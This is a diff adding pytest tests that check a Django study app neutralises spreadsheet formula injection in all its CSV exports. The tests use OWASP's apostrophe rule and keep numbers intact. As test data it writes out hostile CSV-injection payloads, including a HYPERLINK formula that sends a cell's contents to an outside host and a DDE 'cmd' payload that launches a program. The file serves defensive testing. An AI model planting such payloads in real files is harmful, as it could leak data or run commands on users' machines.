@@ -1,0 +1,114 @@
+"""CSV cells a spreadsheet would run as a formula are neutralised in every CSV the app
+writes: a leading apostrophe (OWASP's rule), numbers left as numbers, and the datasheet
+says so."""
+
+import csv
+import io
+import re
+import zipfile
+
+import pytest
+
+from elicitation.models import Question, SurveyAnswer, ValuesCard, WiserJudgment
+from moralgraph.models import Context, UpgradeHypothesis, Value
+from moralgraph.services.exports import FORMATS, build_export
+from moralgraph.services.exports.data import csv_bytes, safe_cell
+from moralgraph.services.importers import import_reference
+from tests.moralgraph.support import REFERENCE
+
+pytestmark = pytest.mark.django_db
+
+FORMULAS = [
+    '=HYPERLINK("https://example.org/x?d="&A1,"open")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,2)",
+    "\tTabbed",
+    "\rReturned",
+]
+NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")
+
+
+def test_safe_cell_follows_the_owasp_rule_and_keeps_numbers():
+    assert [safe_cell(text) for text in FORMULAS[:-1]] == [f"'{text}" for text in FORMULAS[:-1]]
+    assert safe_cell("\rReturned") == "'\nReturned"
+    for kept in ["-0.25", "+3", "-1e-05", "42", "", "plain", "a=b", " =spaced", 7, -3.5, None]:
+        assert safe_cell(kept) == kept
+    assert safe_cell("-inf") == "'-inf"  # not a number a spreadsheet reads as such
+
+
+def test_csv_bytes_neutralises_header_and_cells_and_still_quotes():
+    content = csv_bytes(["=id", "text"], [[-1, '=1+1,"x"'], [2, "ok"]]).decode()
+    rows = list(csv.reader(io.StringIO(content)))
+    assert rows == [["'=id", "text"], ["-1", '\'=1+1,"x"'], ["2", "ok"]]
+
+
+def test_a_line_break_typed_in_a_browser_stays_inside_its_cell():
+    # A textarea sends CRLF; a lone CR was written unquoted and split the row.
+    content = csv_bytes(["a", "b"], [["one\r\ntwo\rthree", "x"]]).decode()
+    assert list(csv.reader(io.StringIO(content))) == [["a", "b"], ["one\ntwo\nthree", "x"]]
+
+
+@pytest.fixture
+def study():
+    """The reference study, with formula-like text wherever a person typed or an LLM
+    wrote something that ends up in a CSV table."""
+    study = import_reference(REFERENCE, study_slug="ref").study
+    texts = iter(FORMULAS * 3)
+    for card in ValuesCard.objects.filter(study=study, status=ValuesCard.Status.SUBMITTED)[:3]:
+        card.title, card.description = next(texts), next(texts)
+        card.policies = [next(texts), *card.policies[1:]]
+        card.save()
+    WiserJudgment.objects.filter(participant__study=study, reason_private=False).update(
+        reason=FORMULAS[0]
+    )
+    SurveyAnswer.objects.filter(participant__study=study).update(comment=FORMULAS[3])
+    Question.objects.filter(study=study).update(text=FORMULAS[1])
+    for i, context in enumerate(Context.objects.filter(study=study)):
+        context.text = f"{FORMULAS[2]} {i}"  # a context's text is unique in its study
+        context.save()
+    for i, value in enumerate(Value.objects.filter(study=study)):
+        value.title, value.description = f"{FORMULAS[4]} {i}", FORMULAS[5]
+        value.save()
+    UpgradeHypothesis.objects.filter(study=study).update(story=FORMULAS[0])
+    return study
+
+
+def _csv_files(name: str, content: bytes) -> dict[str, str]:
+    if name.endswith(".csv"):
+        return {name: content.decode()}
+    if not name.endswith(".zip"):
+        return {}
+    archive = zipfile.ZipFile(io.BytesIO(content))
+    return {n: archive.read(n).decode() for n in archive.namelist() if n.endswith(".csv")}
+
+
+def test_no_csv_of_any_export_holds_a_cell_a_spreadsheet_would_run(study):
+    checked = {}
+    for fmt, spec in FORMATS.items():
+        for mode in spec.modes:
+            export = build_export(study=study, fmt=fmt, mode=mode, generate=True)
+            for name, text in _csv_files(export.filename, export.content).items():
+                rows = list(csv.reader(io.StringIO(text)))
+                checked[f"{fmt}/{mode}/{name}"] = rows
+                for row in rows:
+                    for cell in row:
+                        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
+                            assert NUMBER.fullmatch(cell), (fmt, mode, name, cell)
+    # Every table of the csv export and of the bundle was looked at, in both modes.
+    assert {"csv/default/cards.csv", "csv/compat/edges.csv"} <= set(checked)
+    assert "bundle/default/tables/judgments.csv" in checked
+    # The formula-like text did reach the tables, made harmless, not dropped.
+    cells = {cell for rows in checked.values() for row in rows for cell in row}
+    for text in FORMULAS:
+        written = "'" + text.replace("\r", "\n")
+        assert any(cell.startswith(written) for cell in cells), text
+    # Numbers stayed numbers: no score or count was given an apostrophe.
+    assert not any(cell[:1] == "'" and NUMBER.fullmatch(cell[1:]) for cell in cells)
+
+
+def test_the_datasheet_explains_the_apostrophe(study):
+    export = build_export(study=study, fmt="bundle", generate=True)
+    readme = zipfile.ZipFile(io.BytesIO(export.content)).read("README.md").decode()
+    assert "apostrophe (')" in readme
+    assert "OWASP" in readme
